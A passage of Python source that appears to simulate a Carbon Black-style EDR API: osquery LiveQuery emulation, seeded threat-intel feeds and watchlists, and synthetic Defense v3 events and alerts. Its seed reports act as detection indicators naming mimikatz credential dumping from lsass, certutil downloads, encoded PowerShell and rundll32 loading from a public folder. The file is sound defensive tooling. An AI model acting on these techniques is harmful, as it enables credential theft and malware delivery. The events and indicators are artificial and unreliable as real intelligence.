                    f'near "{cond.strip().split()[0] if cond.strip() else text}": syntax error'
                )
            terms.append(
                _sql_term(match.group("col").lower(), match.group("op").lower(), match.group("val"))
            )
        groups.append(terms)
    return lambda row: any(all(t(row) for t in terms) for terms in groups)


def _sql_term(col: str, op: str, raw: str) -> Callable[[Mapping[str, Any]], bool]:
    if raw[0] in "'\"":
        value: Any = raw[1:-1].replace("''", "'")
    else:
        value = float(raw) if "." in raw else int(raw)

    def get(row: Mapping[str, Any]) -> Any:
        if col not in row:
            raise SqlError(f"no such column: {col}")
        return row[col]

    if op == "like":
        pattern = re.compile(
            "^" + re.escape(str(value)).replace("%", ".*").replace("_", ".") + "$", re.IGNORECASE
        )
        return lambda row: pattern.match(str(get(row))) is not None

    def compare(row: Mapping[str, Any]) -> bool:
        left = get(row)
        right = value
        if isinstance(right, (int, float)):
            try:
                left = float(left)
            except (TypeError, ValueError):
                return False
        else:
            left = str(left)
        if op in ("=", "=="):
            return bool(left == right)
        if op in ("!=", "<>"):
            return bool(left != right)
        if op == ">":
            return bool(left > right)
        if op == "<":
            return bool(left < right)
        if op == ">=":
            return bool(left >= right)
        return bool(left <= right)

    return compare


LIVEQUERY_TABLES = (
    "file",
    "interface_addresses",
    "listening_ports",
    "logged_in_users",
    "os_version",
    "processes",
    "programs",
    "system_info",
    "uptime",
    "users",
)


def osquery_rows(sql: str, ep: Endpoint, image: Any, now: float) -> list[dict[str, Any]]:
    """Run a (small) osquery SQL statement against one endpoint; SqlError when osquery would."""
    match = _SQL.match(sql or "")
    if match is None:
        word = (sql or "").strip().split()[0] if (sql or "").strip() else "end of input"
        raise SqlError(f'near "{word}": syntax error')
    table = match.group("table").lower()
    where = _sql_condition(match.group("where")) if match.group("where") else None
    rows = _osquery_table(table, ep, image, now, match.group("where") or "")
    if where is not None:
        rows = [r for r in rows if where(r)]
    if match.group("limit"):
        rows = rows[: int(match.group("limit"))]
    cols = [c.strip() for c in match.group("cols").split(",")]
    if cols == ["*"]:
        return rows
    out = []
    for row in rows:
        picked = {}
        for col in cols:
            name = col.split()[-1].lower() if " as " in col.lower() else col.lower()
            source = col.split()[0].lower()
            if source not in row:
                raise SqlError(f"no such column: {source}")
            picked[name] = row[source]
        out.append(picked)
    return out


def _osquery_table(
    table: str, ep: Endpoint, image: Any, now: float, where: str
) -> list[dict[str, Any]]:
    windows = ep.os_family == "windows"
    if table == "system_info":
        return [
            {
                "hostname": ep.hostname,
                "uuid": _uuid("hw", ep.index).upper(),
                "cpu_brand": "Intel(R) Xeon(R) Gold 6248R CPU @ 3.00GHz",
                "cpu_logical_cores": str(4 if ep.host_type == "workstation" else 16),
                "physical_memory": str(ep.physical_memory_size),
                "hardware_vendor": "VMware, Inc." if ep.host_type != "workstation" else "Dell Inc.",
                "hardware_model": "VMware7,1" if ep.host_type != "workstation" else "Latitude 7420",
                "computer_name": ep.hostname,
            }
        ]
    if table == "os_version":
        version = ep.cloud_os_version
        return [
            {
                "name": ep.os_name,
                "version": version,
                "major": "10" if windows else "",
                "platform": {"windows": "windows", "macos": "darwin", "linux": "ubuntu"}[
                    ep.os_family
                ],
            }
        ]
    if table == "uptime":
        total = ep.uptime
        return [
            {
                "days": str(total // 86_400),
                "hours": str(total % 86_400 // 3600),
                "minutes": str(total % 3600 // 60),
                "seconds": str(total % 60),
                "total_seconds": str(total),
            }
        ]
    if table == "processes":
        rows = []
        for p in image.process_list():
            name = p.path.replace("\\", "/").rsplit("/", 1)[-1] or (
                "System" if p.pid == 4 else "kernel"
            )
            rows.append(
                {
                    "pid": str(p.pid),
                    "name": name,
                    "path": p.path,
                    "cmdline": p.command_line,
                    "parent": str(p.parent),
                    "uid": p.sid,
                    "start_time": str(p.create_time),
                }
            )
        return rows
    if table == "users":
        user = ep.username.rsplit("\\", 1)[-1]
        base = [
            {
                "uid": "500" if windows else "0",
                "username": "Administrator" if windows else "root",
                "description": "Built-in account",
                "directory": "C:\\Users\\Administrator" if windows else "/root",
            }
        ]
        home = (
            f"C:\\Users\\{user}"
            if windows
            else (f"/Users/{user}" if ep.os_family == "macos" else f"/home/{user}")
        )
        return [
            *base,
            {
                "uid": "1001",
                "username": user,
                "description": f"{ep.first_name} {ep.last_name}",
                "directory": home,
            },
        ]
    if table == "logged_in_users":
        return (
            [
                {
                    "user": ep.username,
                    "host": ep.hostname,
                    "time": str(int(now) - 3600),
                    "type": "user",
                }
            ]
            if ep.online
            else []
        )
    if table == "interface_addresses":
        return [
            {
                "interface": "Ethernet0" if windows else "eth0",
                "address": ep.internal_ip,
                "mask": "255.255.255.0",
            },
            {"interface": "lo", "address": "127.0.0.1", "mask": "255.0.0.0"},
        ]
    if table == "listening_ports":
        ports = (135, 445, 3389) if windows else (22, 80)
        return [
            {"pid": "4" if windows else "1", "port": str(p), "protocol": "6", "address": "0.0.0.0"}  # noqa: S104 - data, not a bind
            for p in ports
        ]
    if table == "programs":
        if not windows:
            raise SqlError("no such table: programs")
        return [
            {"name": n, "version": v, "publisher": pub}
            for n, v, pub in (
                ("7-Zip 23.01 (x64)", "23.01", "Igor Pavlov"),
                ("Google Chrome", "120.0.6099.130", "Google LLC"),
                ("Mozilla Firefox (x64 en-US)", "121.0", "Mozilla"),
            )
        ]
    if table == "file":
        match = re.search(r"path\s*(?:=|like)\s*'([^']*)'", where, re.IGNORECASE)
        if match is None:
            raise SqlError("file table requires a path constraint")
        path = match.group(1)
        if "%" in path:
            folder = path.rsplit("\\" if windows else "/", 1)[0]
            try:
                entries = image.list_directory(folder + ("\\" if windows else "/"))
            except Exception:
                return []
            sep = "\\" if windows else "/"
            return [
                {
                    "path": folder + sep + e.filename,
                    "filename": e.filename,
                    "size": str(e.size),
                    "mtime": str(e.last_write_time),
                    "type": "directory" if "DIRECTORY" in e.attributes else "regular",
                }
                for e in entries
                if e.filename not in (".", "..")
            ]
        try:
            entry = image.list_directory(path)[0]
        except Exception:
            return []
        return [
            {
                "path": path,
                "filename": entry.filename,
                "size": str(entry.size),
                "mtime": str(entry.last_write_time),
                "type": "directory" if "DIRECTORY" in entry.attributes else "regular",
            }
        ]
    raise SqlError(f"no such table: {table}")


@dataclass
class LiveQueryRun:
    id: str
    name: str
    sql: str
    created_by: str
    create_time: float
    created_mono: float
    device_filter: dict[str, Any]
    notify_on_finish: bool
    targets: list[int]
    respond_after: dict[int, float]
    template_id: str | None = None
    schedule: dict[str, Any] | None = None
    status_override: str | None = None
    cancellation_time: float | None = None
    cancelled_by: str | None = None
    results: dict[int, tuple[str, list[dict[str, Any]], str, float]] = field(default_factory=dict)
    """Per responded device: (status, rows, message, time_received)."""


_RUN_TIMEOUT = 7 * 86_400


class LiveQueryStore:
    """LiveQuery runs: devices answer over ``duration`` seconds; offline ones never do."""

    def __init__(self, org: CloudOrg, duration: float) -> None:
        self.org = org
        self.duration = duration
        self.runs: dict[str, LiveQueryRun] = {}
        self.templates: dict[str, dict[str, Any]] = {}

    def _targets(self, device_filter: Mapping[str, Any]) -> list[int]:
        eps = self.org.state.endpoints
        ids = device_filter.get("device_id") or device_filter.get("device_ids")
        oses = device_filter.get("os") or device_filter.get("device_types")
        policies = device_filter.get("policy_id") or device_filter.get("policy_ids")
        deployment = device_filter.get("deployment_type")
        out = []
        for ep in eps:
            if ep.deregistered:
                continue
            if ids and ep.device_id not in {int(i) for i in ids}:
                continue
            if oses and ep.cloud_os not in {str(o).upper() for o in oses}:
                continue
            if policies and ep.policy_id not in {int(p) for p in policies}:
                continue
            if deployment and self.org.devices.deployment_type(ep) not in set(deployment):
                continue
            out.append(ep.index)
        return out

    def create(self, body: Mapping[str, Any], user: str) -> LiveQueryRun:
        sql = body.get("sql")
        if not isinstance(sql, str) or not sql.strip():
            raise CriteriaError("sql is required", field="sql")
        device_filter = body.get("device_filter") or {}
        if not isinstance(device_filter, Mapping):
            raise CriteriaError("device_filter must be an object", field="device_filter")
        clock = self.org.state.clock
        run_id = "".join(
            "abcdefghijklmnopqrstuvwxyz0123456789"[
                (stable("lq", len(self.runs), clock.time(), sql) >> (5 * k)) % 36
            ]
            for k in range(12)
        )
        targets = self._targets(device_filter)
        online = [i for i in targets if self.org.state.endpoints[i].online]
        respond = {
            i: self.duration * (0.1 + 0.9 * (mix(self.org.seed, i, len(self.runs)) % 1000) / 999)
            for i in online
        }
        run = LiveQueryRun(
            id=run_id,
            name=str(body.get("name") or sql[:40]),
            sql=sql,
            created_by=user,
            create_time=clock.time(),
            created_mono=clock.monotonic(),
            device_filter=dict(device_filter),
            notify_on_finish=bool(body.get("notify_on_finish", False)),
            targets=targets,
            respond_after=respond,
            template_id=body.get("template_id"),
            schedule=body.get("schedule"),
        )
        self.runs[run.id] = run
        return run

    def advance(self, run: LiveQueryRun) -> None:
        """Collect the answers of devices whose time has come."""
        if run.status_override is not None:
            return
        clock = self.org.state.clock
        elapsed = clock.monotonic() - run.created_mono
        eps = self.org.state.endpoints
        for index, after in run.respond_after.items():
            if index in run.results or elapsed < after:
                continue
            ep = eps[index]
            when = run.create_time + after
            try:
                image = image_store(self.org.state).of(ep)
                rows = osquery_rows(run.sql, ep, image, when)
            except SqlError as exc:
                run.results[index] = ("error", [], str(exc), when)
                continue
            run.results[index] = ("matched" if rows else "not_matched", rows, "", when)

    def status(self, run: LiveQueryRun) -> str:
        self.advance(run)
        if run.status_override:
            return run.status_override
        if len(run.results) == len(run.targets):
            return "COMPLETE"
        if self.org.state.clock.time() - run.create_time > _RUN_TIMEOUT:
            return "TIMED_OUT"
        return "ACTIVE"

    def device_status(self, run: LiveQueryRun, index: int) -> str:
        if index in run.results:
            return run.results[index][0]
        if run.status_override == "CANCELLED":
            return "cancelled"
        ep = self.org.state.endpoints[index]
        if ep.os_family not in ("windows", "macos", "linux"):
            return "not_supported"
        return "in_progress" if index in run.respond_after else "not_started"

    def counts(self, run: LiveQueryRun) -> dict[str, int]:
        statuses = Counter(self.device_status(run, i) for i in run.targets)
        return {
            "total_results": sum(len(r[1]) for r in run.results.values()),
            "match_count": statuses["matched"],
            "no_match_count": statuses["not_matched"],
            "success_count": statuses["matched"] + statuses["not_matched"],
            "error_count": statuses["error"],
            "in_progress_count": statuses["in_progress"],
            "not_started_count": statuses["not_started"],
            "not_supported_count": statuses["not_supported"],
            "cancelled_count": statuses["cancelled"],
        }

    def render(self, run: LiveQueryRun) -> dict[str, Any]:
        status = self.status(run)
        answered = [r[3] for r in run.results.values()]
        return {
            "org_key": self.org.org_key,
            "name": run.name,
            "id": run.id,
            "sql": run.sql,
            "created_by": run.created_by,
            "create_time": iso(run.create_time),
            "status_update_time": iso(max(answered) if answered else run.create_time),
            "timeout_time": iso(run.create_time + _RUN_TIMEOUT),
            "cancellation_time": iso(run.cancellation_time),
            "cancelled_by": run.cancelled_by,
            "archive_time": None,
            "archived_by": None,
            "notify_on_finish": run.notify_on_finish,
            "active_org_devices": sum(1 for ep in self.org.state.endpoints if ep.online),
            "status": status,
            "device_filter": run.device_filter,
            "schedule": run.schedule,
            "schema": None,
            "recommended_query_id": None,
            "template_id": run.template_id,
            "destinations": ["LQ"],
            "last_result_time": iso(max(answered)) if answered else None,
            **self.counts(run),
        }

    def device_json(self, index: int) -> dict[str, Any]:
        ep = self.org.state.endpoints[index]
        return {
            "id": ep.device_id,
            "name": ep.hostname,
            "policy_id": ep.policy_id,
            "policy_name": ep.policy_name,
            "os": ep.cloud_os,
        }

    def result_rows(self, run: LiveQueryRun) -> list[dict[str, Any]]:
        """Every result row of the run so far (matched rows, and one row per other answer)."""
        self.advance(run)
        out: list[dict[str, Any]] = []
        for index in run.targets:
            if index not in run.results:
                continue
            status, rows, message, when = run.results[index]
            base = {
                "id": run.id,
                "device": self.device_json(index),
                "status": status,
                "time_received": iso(when),
                "device_message": message,
                "metrics": {"cpu": round(0.1 + (index % 10) / 20, 2), "memory": 180 + index % 50},
            }
            if rows:
                out.extend({**base, "fields": row} for row in rows)
            else:
                out.append({**base, "fields": {}})
        return out

    def summaries(self, run: LiveQueryRun) -> list[dict[str, Any]]:
        self.advance(run)
        out = []
        for index in run.targets:
            status = self.device_status(run, index)
            got = run.results.get(index)
            start = run.create_time
            finish = got[3] if got else None
            out.append(
                {
                    "id": run.id,
                    "device": self.device_json(index),
                    "status": status,
                    "total_results": len(got[1]) if got else 0,
                    "error_description": got[2] if got and got[0] == "error" else None,
                    "metrics": [
                        {"key": "cpu", "value": round(0.1 + (index % 10) / 20, 2)},
                        {"key": "memory", "value": 180 + index % 50},
                    ],
                    "start_time": iso(start),
                    "finish_time": iso(finish),
                    "update_time": iso(finish or start),
                }
            )
        return out


# --------------------------------------------------------------------------------------------
# Threat intelligence: feeds, reports, watchlists
# --------------------------------------------------------------------------------------------

_ALNUM62 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def short_id(*parts: object, length: int = 20) -> str:
    """A Carbon Black-looking id (``pv65TYVQy8YWMX9KsQUg``) that depends only on ``parts``."""
    n = stable(*parts) << 64 | stable(*parts, "2")
    out = []
    for _ in range(length):
        n, r = divmod(n, 62)
        out.append(_ALNUM62[r])
    return "".join(out)


_FEED_SEEDS: tuple[tuple[str, str, str, str, bool], ...] = (
    # name, category, summary, source_label, public
    ("AlienVault", "Open Source", "Indicators from the AlienVault Open Threat Exchange.", "OTX", True),
    ("Carbon Black Advanced Threats", "Carbon Black", "Threat research of the Carbon Black Threat Analysis Unit.", "TAU", True),
    ("ATT&CK Framework", "Carbon Black", "Behaviours mapped to MITRE ATT&CK techniques.", "MITRE", True),
    ("Internal IOCs", "Internal", "Indicators curated by the security team.", "SOC", False),
)  # fmt: skip
_REPORT_SEEDS: tuple[tuple[str, str, int, str, str], ...] = (
    # title, description, severity, field, value
    ("Credential dumping with mimikatz", "mimikatz read the memory of lsass.exe.", 9, "process_name", "mimikatz.exe"),
    ("Certutil used to download a file", "certutil.exe fetched a remote file.", 6, "process_name", "certutil.exe"),
    ("Encoded PowerShell", "powershell.exe ran an encoded command.", 7, "process_cmdline", "-enc"),
    ("Cryptominer pool traffic", "Connections to a known mining pool.", 8, "netconn_domain", "pool.example.net"),
    ("Rundll32 loading from a public folder", "rundll32.exe loaded a DLL from C:\\Users\\Public.", 6, "process_cmdline", "c:\\users\\public"),
    ("Suspicious download address", "Traffic to an address tied to malware hosting.", 5, "netconn_ipv4", "203.0.113.77"),
)  # fmt: skip


class ThreatIntelStore:
    """Feeds (with their reports) and watchlists (with their own reports), seeded and mutable."""

    def __init__(self, org_key: str, seed: int, epoch: float) -> None:
        self.org_key = org_key
        self.seed = seed
        self.feeds: dict[str, dict[str, Any]] = {}
        self.feed_reports: dict[str, list[dict[str, Any]]] = {}
        self.watchlists: dict[str, dict[str, Any]] = {}
        self.reports: dict[str, dict[str, Any]] = {}
        self.ignored: set[str] = set()
        self.ignored_iocs: set[tuple[str, str]] = set()
        self.severities: dict[str, int] = {}
        self._counter = 0
        for n, (name, category, summary, label, public) in enumerate(_FEED_SEEDS):
            feed_id = short_id("feed", seed, n)
            self.feeds[feed_id] = {
                "id": feed_id,
                "name": name,
                "owner": "CB" if public else org_key,
                "provider_url": f"https://feeds.example.com/{label.lower()}",
                "summary": summary,
                "category": category,
                "source_label": label,
                "access": "public" if public else "private",
                "alertable": True,
            }
            self.feed_reports[feed_id] = [
                self._seed_report(feed_id, k, epoch)
                for k in range(len(_REPORT_SEEDS))
                if (k + n) % 2 == 0 or n == 2
            ]
        attack = next(f for f in self.feeds.values() if f["name"] == "ATT&CK Framework")
        internal = next(f for f in self.feeds.values() if f["name"] == "Internal IOCs")
        for wl_id, wl_name in _WATCHLISTS:
            classifier = (
                {"key": "feed_id", "value": attack["id"]} if wl_name == "ATT&CK Framework" else None
            )
            report_ids = (
                None
                if classifier
                else [f"{internal['id']}-{r['id']}" for r in self.feed_reports[internal["id"]][:2]]
            )
            self.watchlists[wl_id] = {
                "id": wl_id,
                "name": wl_name,
                "description": f"Watchlist {wl_name}",
                "tags_enabled": True,
                "alerts_enabled": wl_name != "AMSI Threat Intelligence",
                "create_timestamp": int(epoch) - 90 * 86_400,
                "last_update_timestamp": int(epoch) - 7 * 86_400,
                "report_ids": report_ids,
                "classifier": classifier,
            }

    def _seed_report(self, feed_id: str, k: int, epoch: float) -> dict[str, Any]:
        title, description, severity, field_name, value = _REPORT_SEEDS[k]
        report_id = short_id("report", feed_id, k, length=22)
        return {
            "id": report_id,
            "timestamp": int(epoch) - (k + 1) * 86_400,
            "title": title,
            "description": description,
            "severity": severity,
            "link": f"https://intel.example.com/reports/{report_id}",
            "tags": [field_name.split("_")[0]],
            "iocs_v2": [
                {
                    "id": short_id("ioc", report_id, length=12),
                    "match_type": "equality" if field_name != "process_cmdline" else "query",
                    "values": [value]
                    if field_name != "process_cmdline"
                    else [f"process_cmdline:{value}"],
                    "field": field_name if field_name != "process_cmdline" else None,
                    "link": None,
                }
            ],
            "visibility": None,
        }

    def new_id(self, kind: str, length: int = 20) -> str:
        self._counter += 1
        return short_id(kind, self.seed, self._counter, "new", length=length)

    @staticmethod
    def check_report(report: Any) -> dict[str, Any]:
        if not isinstance(report, Mapping):
            raise CriteriaError("a report must be an object", field="reports")
        for key in ("id", "timestamp", "title", "description", "severity"):
            if key not in report:
                raise CriteriaError(f"report field {key!r} is required", field=f"report.{key}")
        severity = report["severity"]
        if not isinstance(severity, int) or not 1 <= severity <= 10:
            raise CriteriaError("severity must be an integer from 1 to 10", field="report.severity")
        if not report.get("iocs") and not report.get("iocs_v2"):
            raise CriteriaError("a report needs iocs or iocs_v2", field="report.iocs_v2")
        return dict(report)

    @staticmethod
    def check_feedinfo(info: Any) -> dict[str, Any]:
        if not isinstance(info, Mapping):
            raise CriteriaError("feedinfo must be an object", field="feedinfo")
        for key in ("name", "provider_url", "summary", "category"):
            if not info.get(key):
                raise CriteriaError(f"feedinfo field {key!r} is required", field=f"feedinfo.{key}")
        if not re.match(r"^https?://", str(info["provider_url"])):
            raise CriteriaError("provider_url must be a URL", field="feedinfo.provider_url")
        return dict(info)


# An EDR query word -> the Enterprise EDR field it becomes (feedmgr query/translate).
EDR_TO_EEDR_FIELDS = {
    "process_name": "process_name",
    "path": "process_name",
    "cmdline": "process_cmdline",
    "md5": "process_hash",
    "sha256": "process_hash",
    "hostname": "device_name",
    "username": "process_username",
    "ipaddr": "netconn_ipv4",
    "ipport": "netconn_port",
    "domain": "netconn_domain",
    "parent_name": "parent_name",
    "childproc_name": "childproc_name",
    "filemod": "filemod_name",
    "regmod": "regmod_name",
    "modload": "modload_name",
    "crossproc_name": "crossproc_name",
    "process_id": "process_guid",
    "sensor_id": "device_id",
    "group": "device_group",
    "os_type": "device_os",
    "digsig_result": "process_publisher_state",
    "company_name": "process_company_name",
    "product_name": "process_product_name",
}


def translate_edr_query(query: str) -> str:
    """Rewrite ``field:`` prefixes of an EDR query into their Enterprise EDR names."""

    def swap(match: re.Match[str]) -> str:
        name = match.group(1)
        return EDR_TO_EEDR_FIELDS.get(name.lower(), name) + ":"

    return re.sub(r"(?<![\w.])([A-Za-z_][A-Za-z0-9_]*):", swap, query)


# --------------------------------------------------------------------------------------------
# Endpoint Standard (Defense) v3: events, policies, notifications, audit logs
# --------------------------------------------------------------------------------------------

V3_EVENT_TYPES = ("CREATE_PROCESS", "NETWORK", "FILE_CREATE", "REGISTRY_ACCESS", "SYSTEM_API_CALL")
V3_RESULT_CAP = 100_000


class DefenseStore:
    """The legacy v3 views: events from the process data, policies, notification queues."""

    def __init__(self, org: CloudOrg) -> None:
        self.org = org
        self.policies: dict[int, dict[str, Any]] = {}
        for n, (policy_id, name) in enumerate(POLICIES):
            self.policies[policy_id] = self._policy(policy_id, name, n)
        self._next_policy = max(self.policies) + 1
        self._next_rule = 1000
        self._notified = 0
        self.audit: list[dict[str, Any]] = []
        self._audited = 0
        for k in range(3):
            self.record("Logged in successfully", f"/login?k={k}", org.anchor - (3 - k) * 3600)

    def _policy(self, policy_id: int, name: str, n: int) -> dict[str, Any]:
        return {
            "id": policy_id,
            "name": name,
            "description": f"{name} policy",
            "priorityLevel": ("MEDIUM", "HIGH", "LOW", "HIGH")[n % 4],
            "version": 2,
            "latestRevision": int(self.org.anchor * 1000) - n * 86_400_000,
            "systemPolicy": n == 0,
            "policy": {
                "id": -1,
                "knownBadHashAutoDeleteDelayMs": None,
                "sensorSettings": [
                    {"name": "ALLOW_UNINSTALL", "value": "true"},
                    {"name": "SHOW_UI", "value": "true"},
                    {"name": "BACKGROUND_SCAN", "value": "true"},
                ],
                "avSettings": {
                    "apc": {"enabled": False, "maxExeDelay": 45, "maxFileSize": 4, "riskLevel": 4}
                },
                "directoryActionRules": [],
                "rules": [
                    {
                        "id": 1,
                        "required": True,
                        "action": "TERMINATE",
                        "application": {"type": "REPUTATION", "value": "KNOWN_MALWARE"},
                        "operation": "RUN",
                    },
                    {
                        "id": 2,
                        "required": False,
                        "action": "DENY",
                        "application": {"type": "REPUTATION", "value": "COMPANY_BLACK_LIST"},
                        "operation": "RUN",
                    },
                ],
            },
        }

    def record(self, description: str, url: str, when: float | None = None) -> None:
        """An audit-log entry (an API action)."""
        t = when if when is not None else self.org.state.clock.time()
        self.audit.append(
            {
                "requestUrl": url,
                "eventTime": int(t * 1000),
                "eventId": f"{stable('audit', len(self.audit), t):032x}",
                "loginName": self.org.config.api_username,
                "orgName": self.org.config.org_name,
                "flagged": False,
                "clientIp": "203.0.113.10",
                "verbose": False,
                "description": description,
            }
        )

    # -- events ----------------------------------------------------------------------------------
    def event_type(self, i: int) -> str:
        return V3_EVENT_TYPES[mix(self.org.seed, i, 91) % len(V3_EVENT_TYPES)]

    def event_id(self, i: int) -> str:
        return f"{stable('v3event', self.org.seed, i):032x}"

    def event(self, i: int) -> dict[str, Any]:
        store = self.org.processes
        prog, ep = store.prog(i), store.endpoint(i)
        start = store.start(i)
        kind = self.event_type(i)
        parent = store.parent_index(i)
        description = {
            "CREATE_PROCESS": f"{prog.name} was started",
            "NETWORK": f"{prog.name} established a TCP/443 connection to 203.0.113.{i % 250 + 1}",
            "FILE_CREATE": f"{prog.name} created a file",
            "REGISTRY_ACCESS": f"{prog.name} accessed the registry",
            "SYSTEM_API_CALL": f"{prog.name} called a sensitive API",
        }[kind]
        return {
            "eventId": self.event_id(i),
            "eventTime": int(start * 1000),
            "createTime": int((start + 95) * 1000),
            "eventType": kind,
            "shortDescription": description,
            "longDescription": f"{description} on {ep.hostname}.",
            "alertScore": 0 if prog.reputation != "KNOWN_MALWARE" else 8,
            "alertCategory": None if prog.reputation != "KNOWN_MALWARE" else "THREAT",
            "killChainStatus": None,
            "attackStage": None,
            "threatIndicators": [],
            "securityEventCode": None,
            "deviceDetails": {
                "deviceId": ep.device_id,
                "deviceName": ep.hostname,
                "deviceIpAddress": ep.internal_ip,
                "deviceType": ep.cloud_os,
                "deviceVersion": ep.cloud_os_version,
                "deviceLocation": None,
                "agentLocation": "OFFSITE" if ep.index % 4 == 1 else "ONSITE",
                "policyId": ep.policy_id,
                "policyName": ep.policy_name,
                "email": ep.email,
                "groupName": ep.group_name,
                "targetPriorityType": self.org.devices.target_priority(ep),
            },
            "processDetails": {
                "processId": store.pid(i),
                "privatePid": f"{store.pid(i)}-{int(start)}-0",
                "name": prog.name,
                "fullUserName": store.username(i),
                "userName": store.username(i).rsplit("\\", 1)[-1],
                "commandLine": prog.cmdline,
                "parentName": store.prog(parent).name if parent is not None else None,
                "parentPid": store.pid(parent) if parent is not None else None,
                "parentCommandLine": store.prog(parent).cmdline if parent is not None else None,
            },
            "selectedApp": {
                "applicationName": prog.name,
                "applicationPath": prog.path,
                "sha256Hash": prog.sha256,
                "md5Hash": prog.md5,
                "reputationProperty": prog.reputation,
                "effectiveReputation": prog.reputation,
                "virusName": "HackTool.Mimikatz" if prog.name == "mimikatz.exe" else None,
                "virusCategory": None,
                "virusSubCategory": None,
            },
            "parentApp": None,
            "targetApp": None,
            "netFlow": (
                {
                    "destAddress": f"203.0.113.{i % 250 + 1}",
                    "destPort": 443,
                    "peerIpAddress": f"203.0.113.{i % 250 + 1}",
                    "service": "https",
                    "sourceAddress": ep.internal_ip,
                    "sourcePort": 49_152 + i % 16_000,
                }
                if kind == "NETWORK"
                else None
            ),
        }

    @property
    def event_table(self) -> Table:
        table: Table = self.org.lazy("v3_event_table", self._event_table)
        return table

    def _event_table(self) -> Table:
        store = self.org.processes
        base = store.table
        cols: dict[str, Column] = {
            "hostNameExact": base.columns["device_name"],
            "deviceId": base.columns["device_id"],
            "applicationName": base.columns["process_original_filename"],
            "sha256Hash": base.columns["process_sha256"],
            "eventType": lambda i: self.event_type(i),
            "ownerNameExact": lambda i: store.endpoint(i).email,
            "eventTime": store.start,
        }
        return Table(
            count=lambda: store.count,
            columns=cols,
            schema={},
            time_criteria=frozenset({"eventTime"}),
        )

    def search_events(self, params: Mapping[str, str]) -> list[int]:
        criteria: dict[str, Any] = {}
        for key in (
            "hostNameExact",
            "applicationName",
            "eventType",
            "sha256Hash",
            "deviceId",
            "ownerNameExact",
        ):
            value = params.get(key)
            if value:
                if key == "deviceId":
                    if not value.isdigit():
                        raise CriteriaError("deviceId must be an integer", field="deviceId")
                    criteria[key] = [int(value)]
                elif key == "hostNameExact":
                    criteria[key] = [value.lower()]
                else:
                    criteria[key] = [value]
        window = params.get("searchWindow") or "1d"
        criteria["eventTime"] = {"range": f"-{window.lstrip('-')}"}
        indices = self.event_table.select(criteria=criteria, anchor=self.org.anchor)
        return sorted(indices, key=lambda i: -self.org.processes.start(i))

    def event_index(self, event_id: str) -> int | None:
        lookup: dict[str, int] = self.org.lazy(
            "v3_event_ids", lambda: {self.event_id(i): i for i in range(self.org.processes.count)}
        )
        return lookup.get(event_id)

    # -- notifications ---------------------------------------------------------------------------
    def next_notifications(self, limit: int = 25) -> list[dict[str, Any]]:
        """The next queued notifications (alerts, oldest first); retrieved ones leave the queue."""
        alerts = self.org.alerts
        order = sorted(range(alerts.count), key=lambda i: alerts.rows()[i]["backend_timestamp"])
        batch = order[self._notified : self._notified + limit]
        self._notified += len(batch)
        out = []
        for i in batch:
            row = alerts.rows()[i]
            ep = self.org.state.endpoints.by_device_id(row["device_id"])
            out.append(
                {
                    "type": "THREAT" if row["severity"] >= 5 else "POLICY_ACTION",
                    "url": f"https://defense.example.com/triage?incidentId={row['id']}",
                    "eventTime": int(epoch_of(row["backend_timestamp"]) * 1000),
                    "eventDescription": row["reason"],
                    "ruleName": None,
                    "threatInfo": {
                        "incidentId": row["id"],
                        "score": row["severity"],
                        "summary": row["reason"],
                        "time": int(epoch_of(row["backend_timestamp"]) * 1000),
                        "indicators": [
                            {
                                "applicationName": row["process_name"],
                                "sha256Hash": row["process_sha256"],
                                "indicatorName": t,
                            }
                            for t in row["ttps"]
                        ],
                        "threatCause": {
                            "actor": row["process_sha256"],
                            "actorName": row["process_name"],
                            "reputation": row["process_reputation"],
                            "threatCategory": "NON_MALWARE",
                            "actorType": None,
                            "reason": row["reason_code"],
                            "causeEventId": row["primary_event_id"],
                            "originSourceType": "UNKNOWN",
                        },
                    },
                    "deviceInfo": {
                        "deviceId": row["device_id"],
                        "deviceName": row["device_name"],
                        "deviceType": row["device_os"],
                        "deviceVersion": row["device_os_version"],
                        "email": ep.email if ep else None,
                        "groupName": row["device_policy"],
                        "internalIpAddress": row["device_internal_ip"],
                        "externalIpAddress": row["device_external_ip"],
                        "targetPriorityType": row["device_target_value"],
                        "targetPriorityCode": 0,
                        "deviceHostName": None,
                    },
                }
            )
        return out

    def next_audit(self, limit: int = 100) -> list[dict[str, Any]]:
        batch = self.audit[self._audited : self._audited + limit]
        self._audited += len(batch)
        return batch
